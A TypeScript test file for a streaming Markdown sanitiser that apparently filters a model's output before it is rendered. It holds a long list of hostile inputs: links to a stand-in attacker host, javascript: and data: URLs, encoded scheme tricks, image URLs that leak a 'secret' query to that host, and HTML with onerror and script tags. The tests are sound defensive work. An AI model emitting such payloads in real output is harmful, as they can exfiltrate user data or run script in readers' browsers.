import MarkdownIt, { type Token } from "markdown-it";
import { expect, test } from "vitest";
import { randomOf } from "../../../test/random-of.ts";
import { createSanitiser } from "./sanitiser.ts";

const site = "https://docs.example/";
/** As eager as renderers get: HTML, bare addresses, bare host names, and every scheme. */
const renderers = [
  new MarkdownIt({ html: true, linkify: true }),
  new MarkdownIt({ html: true, linkify: true }),
  new MarkdownIt("commonmark"),
];
renderers[1]?.linkify.set({ fuzzyLink: true });
for (const renderer of renderers) renderer.validateLink = () => true;

const hostile = [
  "[text](http://evil.example)",
  "[text](<http://evil.example>)",
  '[text](http://evil.example "a title")',
  "[text](\nhttp://evil.example)",
  "[te\nxt](http://evil.example)",
  "[a [b] c](http://evil.example)",
  "[a [b](http://evil.example) c](http://evil.example)",
  "[`code`](http://evil.example)",
  "[text](javascript:alert(1))",
  "[text](JaVaScRiPt:alert(1))",
  "[text](java&#115;cript:alert(1))",
  "[text](javascript&colon;alert(1))",
  "[text](data:text/html,<script>alert(1)</script>)",
  "[text](//evil.example)",
  "[text](\\\\evil.example)",
  "[text](https:\\\\evil.example)",
  "[text](%68ttp://evil.example)",
  "[text](https://docs.example@evil.example/)",
  "[text](https://docs.example.evil.example/)",
  "![alt](http://evil.example/x.png?q=secret)",
  "![alt](https://docs.example/x.png)",
  "![alt [1]](http://evil.example)",
  "!\\[alt](http://evil.example)",
  "![a][b]\n\n[b]: http://evil.example",
  "[a][b]\n\n[b]: http://evil.example",
  "[b]\n\n[b]:\n  http://evil.example\n  'title'",
  "[b][]\n\n- [b]: <http://evil.example>",
  "> [b]: http://evil.example\n\n[b]",
  "[^1]: http://evil.example\n\n[^1]",
  "It is so [1].\n\n[1]: http://evil.example",
  "It is so [1](http://evil.example).",
  "It is so [9](http://evil.example).",
  "<http://evil.example>",
  "<mailto:a@evil.example>",
  "<a@evil.example>",
  "<javascript:alert(1)>",
  "http://evil.example/?q=secret",
  "HTTPS://EVIL.EXAMPLE",
  "www.evil.example",
  "//evil.example/x",
  "evil.com and (evil.org)",
  "a@evil.example",
  "http\\://evil.example",
  "http:\\/\\/evil.example",
  "www\\.evil.example",
  "http&#58;//evil.example",
  "&#104;ttp://evil.example",
  "htt[9]p://evil.example",
  "w[9]ww.evil.example",
  "htt[p](x)://evil.example",
  "[w](x)ww.evil.example",
  "**http://evil.example**",
  "https://docs.example/a\\<img src=x>",
  "https://docs.example/a`<img src=x>`",
  "<img src=x onerror=alert(1)>",
  "<[9]img src=x onerror=alert(1)>",
  "< [9]img src=x onerror=alert(1)>",
  "<script>alert(1)</script>",
  "<!-- --><img src=x>",
  "<?php ?><img src=x>",
  "<![CDATA[<img src=x>]]>",
  "\\\\<img src=x>",
  "a `<img src=x>",
  "a ``<img src=x>` b",
  "a `b\n\n<img src=x>`",
  "a `b\n- <img src=x>`",
  "a `b\n# <img src=x>`",
  "\\`<img src=x>\\`",
  "[x](http://evil.example)```\n<img src=x>",
  "- ```\n<img src=x>",
  "- ```\n  code\n<img src=x>\n  ```\n<img src=x>",
  "> ```\n<img src=x>",
  "1. a\n\n   ```\n   code\n\n<img src=x>\n\n   ```\n<img src=x>",
  "    ```\n<img src=x>",
  "``` a`b\n<img src=x>",
  "```a|b\n---|---\n<img src=x>|y",
  "~~~\n```\n~~~\n<img src=x>",
  "````\n```\n````\n<img src=x>",
  "```\n```x\n```\n<img src=x>",
  "a|b\n-|-\n`x|<img src=x>`|y",
  "`a|<img src=x>`|b\n-|-|-\nx|y|z",
  "> a|b\n> -|-\n> `x|<img src=x>`|y",
  "# a|b\n-|-\n`x|<img src=x>`|y",
  "[a|b](https://docs.example/a)|c\n-|-|-",
  "line\r<img src=x>\r\n```\r<img src=x>\r```\r<img src=x>",
  "a\u0000<\u0001img src=x>",
];

test.each(hostile)("%j shows nothing but text and links to the docs", (text) => {
  expect(faultsOf(sanitised([text]))).toEqual([]);
  expect(sanitised([...text])).toBe(sanitised([text]));
});

test("whatever is said, and however it is cut, the reader gets the same harmless text", () => {
  const random = randomOf(7);
  const pieces = [...hostile.flatMap((text) => text.split(/(?<=[\s[\](){}<>|`])/)), "\n", "\n\n"];
  for (let count = 0; count < 4_000; count += 1) {
    const text = Array.from({ length: 1 + random(16) }, () => pieces[random(pieces.length)]).join(
      "",
    );
    const whole = sanitised([text]);
    expect(faultsOf(whole)).toEqual([]);
    expect(sanitised([...text])).toBe(whole);
    expect(sanitised(text.match(new RegExp(`[^]{1,${1 + random(9)}}`, "gu")) ?? [])).toBe(whole);
  }
});

test.each(
  "[ ![ [a]( ]( ` ```\u00a0 ``a` < <a & http:// http://a\u00a0 w @ \\ [1]\u00a0 \n-\u00a0 | >\u00a0".split(
    " ",
  ),
)("a flood of %j takes no more time than its length asks for", (sign) => {
  const flood = sign.replace("\u00a0", " ");
  const delta = flood.repeat(Math.ceil(8 / flood.length));
  const size = flood === "[" ? 1_000_000 : 200_000;
  const sanitiser = sanitiserOf();
  for (let sent = 0; sent < size; sent += delta.length) sanitiser.push(delta);
  sanitiser.end();
  expect(sanitised([flood.repeat(size / flood.length)]).length).toBeLessThan(10 * size);
  expect(sanitiser.text().length).toBeLessThan(10 * size);
});

function sanitiserOf() {
  return createSanitiser({
    textId: "t",
    passages: [],
    revision: "rev_1",
    urlOf: () => site,
    allowedUrl: (url) => (url.startsWith(site) ? url : undefined),
    agreement: () => 0,
  });
}

function sanitised(deltas: string[]): string {
  const sanitiser = sanitiserOf();
  const events = [...deltas.flatMap((delta) => sanitiser.push(delta)), ...sanitiser.end()];
  const text = events.map((event) => (event.type === "text-delta" ? event.delta : "")).join("");
  expect(text).toBe(sanitiser.text());
  return text;
}

/** Everything in the rendered text that the model must not be able to put there. */
function faultsOf(text: string): string[] {
  return renderers.flatMap((renderer) => flat(renderer.parse(text, {})).flatMap(faultOf));
}

function flat(tokens: Token[]): Token[] {
  return tokens.flatMap((token) => [token, ...flat(token.children ?? [])]);
}

function faultOf(token: Token): string[] {
  if (token.type === "image" || token.type.startsWith("html"))
    return [`${token.type} ${token.content}`];
  const href = String(token.attrGet("href") ?? site);
  return href.startsWith(site) ? [] : [href];
}
